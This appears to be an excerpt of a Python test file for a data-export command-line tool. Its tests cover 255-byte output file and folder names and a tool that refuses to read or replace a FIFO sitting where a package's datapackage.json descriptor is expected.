def test_an_output_name_of_up_to_255_bytes_is_written(
    tmp_path: Path, length: int, args: list[str]
) -> None:
    data = str(write_data(tmp_path))
    for stem in ("x", "ø"):  # one byte, and two in UTF-8
        name = stem * ((length - 4) // len(stem.encode())) + ".out"
        name = "y" * (length - len(name.encode())) + name
        assert len(name.encode()) == length
        target = tmp_path / name
        result = run(*args, str(target), "--data", data)
        assert result.exit_code == 0, result.stderr
        assert target.stat().st_size > 0
        assert _leftovers(tmp_path) == []
        target.unlink()


def test_a_folder_export_of_a_255_byte_name_is_written(tmp_path: Path) -> None:
    target = tmp_path / ("p" * 255)
    result = run("export", str(target), "-f", "datapackage", "--data", str(write_data(tmp_path)))
    assert result.exit_code == 0, result.stderr
    assert (target / "datapackage.json").is_file()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_fifo_named_as_a_packages_descriptor_is_never_read(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    package.mkdir()
    fifo = package / "datapackage.json"
    os.mkfifo(fifo)
    result = _answered(30, lambda: run("export", str(package), "-f", "datapackage"), fifo)
    _one_line(result, "refusing to replace", "--force")
